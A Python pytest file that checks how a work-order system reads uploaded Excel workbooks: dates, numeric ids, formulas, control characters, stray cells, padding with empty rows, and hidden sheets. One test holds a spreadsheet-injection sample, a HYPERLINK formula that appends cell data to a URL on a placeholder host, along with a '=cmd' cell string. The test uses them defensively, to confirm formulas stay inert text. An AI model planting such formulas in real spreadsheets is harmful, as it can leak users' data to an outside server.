"""Workbooks as they come: typed dates, numbers made of ids, formulas, stray cells, empty rows."""

from __future__ import annotations

import time
import zipfile
from collections.abc import Callable
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest

from dutydesk.intake import Layout, read_file
from dutydesk.workflow.time.zone import ZONE

HEADER = ["工单编号", "受理时间", "内容描述", "诉求地址"]


def row(number: object = "1", at: object = "2026-11-20", text: object = "甲") -> list[object]:
    return [number, at, text, "嘉乐路20号"]


def test_dates_come_typed_serial_or_as_text(
    layouts: tuple[Layout, ...], write_book: Callable[..., Path]
) -> None:
    ats = [
        datetime(2026, 11, 20, 9, 32, 9),
        date(2026, 11, 20),
        45681,
        45681.5,
        "45681",
        "2026/1/2",
    ]
    rows = [HEADER, *(row(f"n{index}", at) for index, at in enumerate(ats))]
    reading = read_file(write_book(rows), layouts)
    assert [row.reported_at for row in reading.rows] == [
        datetime(2026, 11, 20, 9, 32, 9, tzinfo=ZONE),
        datetime(2026, 11, 20, tzinfo=ZONE),
        datetime(2025, 1, 24, tzinfo=ZONE),
        datetime(2025, 1, 24, 12, tzinfo=ZONE),
        datetime(2025, 1, 24, tzinfo=ZONE),
        datetime(2026, 1, 2, tzinfo=ZONE),
    ]
    assert reading.rejected == []


def test_an_id_made_a_number_is_taken_while_its_digits_are_whole(
    layouts: tuple[Layout, ...], write_book: Callable[..., Path]
) -> None:
    ids = [20261122000001, 98765432101.0, 1_234_567_890_123_456_789, "9876543210123456789"]
    rows = [HEADER, *(row(number) for number in ids)]
    reading = read_file(write_book(rows), layouts)
    assert [row.fields["external_no"] for row in reading.rows] == [
        "20261122000001",
        "98765432101",
        "9876543210123456789",
    ]
    assert [(entry.row, entry.reason.code) for entry in reading.rejected] == [(4, "number_damaged")]


def test_formulas_are_text_and_never_computed(
    layouts: tuple[Layout, ...], write_book: Callable[..., Path]
) -> None:
    formula = '=HYPERLINK("http://example.invalid/?"&A2,"点我")'
    rows = [HEADER, row("1", "2026-11-20", formula), row("=1+1"), row("3", "=TODAY()")]
    reading = read_file(write_book(rows), layouts)
    assert reading.rows[0].fields["description"] == formula
    assert reading.rows[1].fields["external_no"] == "=1+1"
    assert [(entry.row, entry.value) for entry in reading.rejected] == [(4, "=TODAY()")]


def test_escapes_controls_and_markup_in_cells(
    layouts: tuple[Layout, ...], write_book: Callable[..., Path]
) -> None:
    rows = [HEADER, row(text="\n\t甲_x000D_\n乙_x0007_[/b] =cmd")]
    reading = read_file(write_book(rows), layouts)
    assert reading.rows[0].fields["description"] == "甲\n乙[/b] =cmd"
    assert reading.dropped_controls == 1


@pytest.mark.parametrize(("stray", "refused"), [("XFD1048576", []), ("C900000", [900_000])])
def test_a_stray_cell_far_out_neither_kills_nor_delays(
    layouts: tuple[Layout, ...], tmp_path: Path, stray: str, refused: list[int]
) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(HEADER)
    sheet.append(row())
    sheet[stray] = "x"
    path = tmp_path / "stray.xlsx"
    book.save(path)
    reading = read_file(path, layouts)
    assert [row.number for row in reading.rows] == [2]
    assert [entry.row for entry in reading.rejected] == refused


@pytest.mark.parametrize("last", [100_000, pytest.param(1_000_000, marks=pytest.mark.soak)])
def test_a_million_empty_rows_cost_little(
    layouts: tuple[Layout, ...], tmp_path: Path, last: int
) -> None:
    path = tmp_path / "empty.xlsx"
    _swell(path, "".join(f'<row r="{n}"><c r="A{n}" s="0"/></row>' for n in range(4, last + 1)))
    began = time.process_time()
    reading = read_file(path, layouts)
    assert [row.number for row in reading.rows] == [2, 3]
    assert time.process_time() - began < 20


def _swell(path: Path, more: str) -> None:
    """A workbook of two rows, with more row elements written into its sheet."""
    book = openpyxl.Workbook()
    for cells in (HEADER, row("1"), row("2")):
        book.active.append(cells)
    small = path.with_suffix(".small")
    book.save(small)
    with zipfile.ZipFile(small) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for part in source.infolist():
            data = source.read(part.filename)
            if part.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"</sheetData>", more.encode() + b"</sheetData>")
            out.writestr(part.filename, data)


def test_a_hidden_sheet_comes_after_the_visible_ones(
    layouts: tuple[Layout, ...], tmp_path: Path
) -> None:
    book = openpyxl.Workbook()
    book.active.title = "旧"
    book.active.append(HEADER)
    book.active.append(row("old"))
    book.active.sheet_state = "hidden"
    sheet = book.create_sheet("新")
    sheet.append(HEADER)
    sheet.append(row("new"))
    path = tmp_path / "hidden.xlsx"
    book.save(path)
    reading = read_file(path, layouts)
    assert (reading.table, reading.rows[0].fields["external_no"]) == ("新", "new")
